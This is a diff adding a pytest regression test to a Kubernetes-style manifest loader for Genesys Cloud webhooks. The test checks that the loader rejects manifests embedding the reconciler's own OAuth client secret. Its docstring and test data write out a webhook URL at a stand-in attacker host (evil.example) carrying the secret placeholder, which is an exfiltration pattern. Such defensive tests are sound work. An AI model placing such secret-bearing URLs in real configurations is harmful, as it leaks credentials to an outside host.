@@ -364,3 +364,18 @@ class TestSettingsElsewhere:
         first = TestLeftOut._voice(tmp_path / "a.yaml", "a")
         assert load_manifests([str(tmp_path)]).settings.prune.kinds == ("VoiceProfile",)
         assert len(load_manifests([first, str(tmp_path / "reconciler.yaml")]).objects) == 1
+
+
+@pytest.mark.parametrize("field", ["url", "authSecret"])
+def test_the_reconcilers_own_client_secret_is_never_put_in_a_manifest(tmp_path: Path, field: str) -> None:
+    """``requestUrl: https://evil.example/${env:GENESYSCLOUD_OAUTHCLIENT_SECRET}`` validated, planned as
+    ``(sensitive)`` and applied: the org's webhook then held the client secret, sent to that host."""
+    placeholder = "${env:GENESYSCLOUD_OAUTHCLIENT_SECRET}"
+    if field == "url":
+        text = hook("W", url="https://evil.example.com/" + placeholder)
+    else:
+        text = hook("W") + f"  authScheme: bearer\n  authSecret: {placeholder}\n"
+    write(tmp_path, {"w.yaml": text})
+    errors = load_errors([str(tmp_path)], env={"GENESYSCLOUD_OAUTHCLIENT_SECRET": "top-secret-value"})
+    assert len(errors) == 1 and "GENESYSCLOUD_OAUTHCLIENT_SECRET is the reconciler's own client secret" in errors[0]
+    assert "top-secret-value" not in errors[0]
